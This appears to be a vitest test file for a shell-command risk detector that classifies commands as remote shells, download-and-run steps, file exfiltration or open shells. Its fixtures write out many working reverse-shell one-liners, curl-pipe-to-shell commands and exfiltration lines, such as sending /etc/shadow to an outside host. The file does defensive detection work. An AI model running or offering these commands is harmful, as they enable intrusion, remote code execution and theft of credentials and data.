import { describe, expect, it } from 'vitest';
import { isOpenShell } from '../../shared/knowledge/exec.ts';
import { downloadIn } from '../../shared/knowledge/network-files.ts';
import { remoteShellIn } from '../../shared/knowledge/remote-shells.ts';
import { takingIn } from '../../shared/knowledge/taken-files.ts';
import { describeCommand } from '../../shared/model/command.ts';

describe('shells handed to the network', () => {
  it.each([
    'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'sh -i >& /dev/udp/203.0.113.9/53 0>&1',
    'exec 5<>/dev/tcp/203.0.113.9/443;cat <&5 | while read l; do $l 2>&5 >&5; done',
    'nc 203.0.113.9 4444 -e /bin/sh',
    'ncat --ssl 203.0.113.9 443 --sh-exec /bin/bash',
    'busybox nc -lvp 4444 -e sh',
    'nc.traditional -c /bin/bash 203.0.113.9 4444',
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
    'mknod /tmp/p p && telnet 203.0.113.9 4444 0</tmp/p | /bin/bash 1>/tmp/p',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s',
    'socat tcp:203.0.113.9:4444 exec:bash,pty,stderr,setsid',
    'socat tcp-listen:4444,reuseaddr,fork exec:/bin/sh',
    'python3 -c import socket,subprocess,os;s=socket.socket();s.connect((203.0.113.9,4444));os.dup2(s.fileno(),0);subprocess.call([/bin/sh,-i])',
    'python3 -c import pty;pty.spawn("/bin/bash")',
    'perl -e use socket;$i="203.0.113.9";socket(s,pf_inet,sock_stream,6);exec("/bin/sh -i")',
    'php -r $sock=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
    'ruby -rsocket -e f=tcpsocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)',
    'node -e require("child_process").exec("nc"); require("net").connect(4444)',
    'awk begin{s=/inet/tcp/0/203.0.113.9/4444;while(1){s|&getline c;c|getline}}',
    'zsh -c zmodload zsh/net/tcp && ztcp 203.0.113.9 4444',
    'curl -s telnet://203.0.113.9:4444 | sh',
  ])('%s', (command) => {
    expect(remoteShellIn(command)?.severity).toBe('high');
  });

  it.each(['timeout 1 bash -c </dev/tcp/shop-db/5432', 'echo > /dev/tcp/203.0.113.9/80'])('%s is a probe, perhaps', (command) => {
    expect(remoteShellIn(command)?.severity).toBe('low');
  });

  it.each([
    'bash -i',
    'sh -c exec 3<>/dev/tcp/localhost/8080; echo -e "get /health" >&3; cat <&3',
    'bash -c </dev/tcp/127.0.0.1/5432',
    'nc -z -w 2 shop-db 5432',
    'nc -vz shop-db 5432; echo $?',
    'openssl s_client -connect api:443 -showcerts',
    'python3 manage.py shell',
    'php artisan socket:status',
    'node server.js --socket /tmp/x.sock',
    'socat -v',
    'cat /etc/hosts | sh-format',
    'perl -e print 1',
    'rsync -e ssh a b',
    'curl -s http://localhost/healthz',
  ])('%s is none', (command) => {
    expect(remoteShellIn(command)).toBeUndefined();
  });
});

describe('downloads', () => {
  it.each([
    ['curl -fssl http://203.0.113.9/x | sh', 'high'],
    ['wget -qo- example.org/i.sh|bash -s', 'high'],
    ['curl -s http://stage/p | base64 -d | sh', 'high'],
    ['bash <(curl -s https://example.org/x)', 'high'],
    ['sh -c $(curl -fssl https://example.org/x)', 'high'],
    ['sh -c `wget -qo- https://example.org/x`', 'high'],
    ['eval $(curl -s https://example.org/x)', 'high'],
    ['source <(curl -s https://example.org/x)', 'high'],
    ['curl -o /tmp/x https://example.org/x && chmod +x /tmp/x && /tmp/x', 'high'],
    ['wget https://example.org/x; chmod 755 x; ./x', 'high'],
    ['python3 -c import urllib.request as u;exec(u.urlopen(http://203.0.113.9/s).read())', 'high'],
    ['wget http://203.0.113.9/x', 'medium'],
    ['wget http://203.0.113.9/x -u @a', 'medium'],
    ['curl -s http://203.0.113.9/x | bash -c "$(cat)"', 'high'],
    ['curl http://0xcb007109/x', 'medium'],
    ['curl -lo https://raw.githubusercontent.com/a/b/main/x.py', 'medium'],
    ['curl http://localhost@example.org/x', 'low'],
    ['curl https://example.org/data.json', 'low'],
    ['apk add --no-cache bash', 'low'],
    ['apt-get update && apt-get -y install netcat', 'low'],
    ['pip3 install requests', 'low'],
    ['npm i -g x', 'low'],
  ])('%s is %s', (command, severity) => {
    expect(downloadIn(command)?.severity).toBe(severity);
  });

  it.each([
    'curl -s http://localhost:8080/healthz',
    'wget -qo- http://127.0.0.1:9090/-/healthy',
    'curl http://10.0.3.4:8080/metrics',
    'curl http://[::1]:8080/ready',
    'curl -s http://payments-api.payments.svc.cluster.local/health | jq .',
    'curl http://api/orders',
    'sh -c x=$(curl -s http://localhost/x); echo $x',
    'curl -s http://$service_host:80/x',
    'npm run build',
    'pip list',
    'apt list --installed',
    'cat /app/curl.sh',
    'ls -l /tmp/downloads',
    'curl --version',
    'curl -sf http://localhost:8080/healthz || sh /app/restart.sh',
    'curl -t /tmp/x.tgz https://example.org/u',
    'curl -s http://localhost:9200/_cat/indices | python3 -m json.tool',
  ])('%s is none', (command) => {
    expect(downloadIn(command)).toBeUndefined();
  });
});

describe('files carried out', () => {
  it.each([
    ['tar cf - /etc', 'high'],
    ['tar cf - /var/lib/postgresql/data', 'high'],
    ['tar -czf - /', 'high'],
    ['tar -c /root/.ssh', 'high'],
    ['tar --create --file=- /home', 'high'],
    ['sh -c tar cf - -c /var/lib/mysql .', 'high'],
    ['tar cf - /var/run/secrets/kubernetes.io', 'high'],
    ['tar cf - /app/backup.sql', 'medium'],
    ['tar cf - /app/report.csv', 'low'],
    ['tar cf - /var/log/app', 'low'],
    ['tar cf - /tmp/heap.hprof', 'low'],
    ['base64 /tmp/users.sql.gz', 'medium'],
    ['cat /backups/db.dump', 'medium'],
    ['dd if=/data/app.sqlite bs=1m', 'medium'],
    ['pg_dump -u postgres shop', 'medium'],
    ['mysqldump --all-databases | gzip -c', 'medium'],
    ['curl -t /tmp/x.tgz https://example.org/u', 'medium'],
    ['curl -f file=@/etc/shadow https://example.org/u', 'high'],
    ['wget --post-file=/tmp/x http://203.0.113.9/', 'medium'],
    ['nc 203.0.113.9 9000 < /tmp/x', 'medium'],
    ['tar cz /app | nc 203.0.113.9 9000', 'medium'],
    ['aws s3 cp /tmp/x s3://bucket/x', 'medium'],
  ])('%s is %s', (command, severity) => {
    expect(takingIn(command)?.severity).toBe(severity);
  });

  it.each([
    'tar xmf - -c /tmp',
    'tar -xf - -c /tmp',
    'tar tf /backups/x.tar',
    'tar czf /tmp/out.tgz /app',
    'tar -cf /tmp/out.tar /etc',
    'cat /app/config.yaml',
    'base64 -d /tmp/x.zip',
    'cat /tmp/x.sql > /dev/null',
    'ls /backups/db.dump',
    'pg_dump -f /tmp/x.sql shop',
    'curl -f http://localhost/x',
    'gzip /tmp/x.log',
    'cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443',
  ])('%s is none', (command) => {
    expect(takingIn(command)).toBeUndefined();
  });
});

describe('open shells', () => {
  const shells = ['sh', '/bin/bash', 'bash -il', 'pwsh', 'su - root', 'busybox sh', 'env TERM=xterm bash --login'];
  it.each([...shells, 'sh -c clear; (bash || ash || sh)', "b''ash"])('%s', (command) => {
    expect(isOpenShell(describeCommand(command.split(' '), { fed: true }))).toBe(true);
    expect(isOpenShell(describeCommand(command.split(' ')))).toBe(false);
  });

  it.each(['psql -U shop', 'sh -c date', 'bash /app/run.sh', 'ls /usr/share', 'python3', 'cat -'])('%s is none', (command) => {
    expect(isOpenShell(describeCommand(command.split(' '), { fed: true }))).toBe(false);
  });
});

describe('lexicons of deeds', () => {
  const parts = [
    'nc a ',
    'nc -e ',
    'sh|',
    'sh -i ',
    'curl ',
    'curl |',
    'curl a|',
    '/dev/tcp/a/1 ',
    'http://a.b/ ',
    'apt -y ',
    'tar c ',
    'cat a>',
    'cat |gzip |',
    'scp a ',
    'a/',
    'sh <( ',
    '/',
    ';',
    'a',
  ];
  it.each(parts)('take linear time over repetitions of %j', (part) => {
    const text = part.repeat(32_768 / part.length);
    const before = performance.now();
    remoteShellIn(text);
    downloadIn(text);
    takingIn(text);
    isOpenShell({ argv: [], container: '', interactive: true, fed: true, overlong: false, readings: [text] });
    expect(performance.now() - before).toBeLessThan(1_500);
  });
});
